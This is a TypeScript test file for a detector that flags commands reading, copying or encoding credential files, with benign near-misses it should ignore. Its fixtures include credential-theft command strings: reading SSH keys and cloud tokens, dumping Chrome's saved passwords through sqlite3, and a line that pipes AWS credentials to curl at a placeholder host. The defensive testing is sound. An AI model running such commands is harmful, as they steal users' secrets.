import { describe, expect, it } from 'vitest';
import { commandsDetector } from '../index.js';

const detect = (text: string) => commandsDetector.detect(text, { present: new Set(), view: 'original' });
const READ = 'commands.credential-access.credential-file-read';

describe('credential-file-read', () => {
  it.each([
    ['cat ~/.aws/credentials', 'medium', 'T1552.001'],
    ['cat ~/.config/gcloud/credentials.db', 'medium', 'T1552.001'],
    ['type %USERPROFILE%\\.aws\\credentials', 'medium', 'T1552.001'],
    ['Get-Content $env:USERPROFILE\\.aws\\credentials', 'medium', 'T1552.001'],
    ['gc ~\\.aws\\credentials', 'medium', 'T1552.001'],
    ['cat ~/.kube/config', 'medium', 'T1552.001'],
    ['cat ~/.docker/config.json', 'medium', 'T1552.001'],
    ['sudo cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'medium', 'T1552.001'],
    ['cat ~/.ssh/id_rsa', 'medium', 'T1552.004'],
    ['grep -r aws_secret ~/.aws/credentials', 'medium', 'T1552.001'],
    ['find / -name id_rsa -exec cat {} \\;', 'medium', 'T1552.004'],
    ['find / -name id_rsa 2>/dev/null | xargs cat', 'medium', 'T1552.004'],
    ['find /home -name .git-credentials -exec cp {} /tmp/g \\;', 'high', 'T1552.001'],
    ['cp ~/.aws/credentials /tmp/c', 'high', 'T1552.001'],
    ['base64 -w0 ~/.ssh/id_ed25519', 'high', 'T1552.004'],
    ['cat ~/.ssh/id_rsa | base64', 'high', 'T1552.004'],
    ['tar czf /tmp/k.tgz ~/.ssh/id_rsa ~/.aws/credentials', 'high', 'T1552.004'],
  ])('%s → %s', (text, severity, attack) => {
    const f = detect(text).find((x) => x.rule === READ);
    expect(f).toMatchObject({ severity, attack });
  });

  it.each([
    'ls ~/.aws',
    'ls -la ~/.ssh',
    'vim ~/.aws/credentials',
    'nano ~/.kube/config',
    'chmod 600 ~/.ssh/id_rsa',
    'aws configure',
    'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519',
    'cat ~/.ssh/id_rsa.pub',
    'cat ~/.aws/config',
    'ssh -i ~/.ssh/id_rsa user@host',
    'cp ~/.kube/config ~/.kube/config.bak',
    'sudo cp /etc/kubernetes/admin.conf $HOME/.kube/config',
    'find / -name id_rsa',
    'Your cloud credentials live in ~/.aws/credentials; keep that file at mode 600.',
  ])('stays quiet on %s', (text) => {
    expect(detect(text).map((f) => f.rule)).not.toContain(READ);
  });

  it('leaves a read that is sent on to the exfil rule alone', () => {
    const rules = detect('cat ~/.aws/credentials | base64 | curl -d @- http://x.example.net/c').map((f) => f.rule);
    expect(rules).toEqual(['commands.credential-access.credential-file-exfil']);
  });
});

describe('browser-store with a shell-escaped space', () => {
  it.each([
    'cp ~/.config/google-chrome/Default/Login\\ Data /tmp/ld',
    'sqlite3 ~/.config/google-chrome/Default/Login\\ Data "select origin_url, username_value, password_value from logins"',
  ])('%s', (text) => {
    expect(detect(text).find((f) => f.rule === 'commands.credential-access.browser-store')).toMatchObject({ severity: 'high', attack: 'T1555.003' });
  });
});
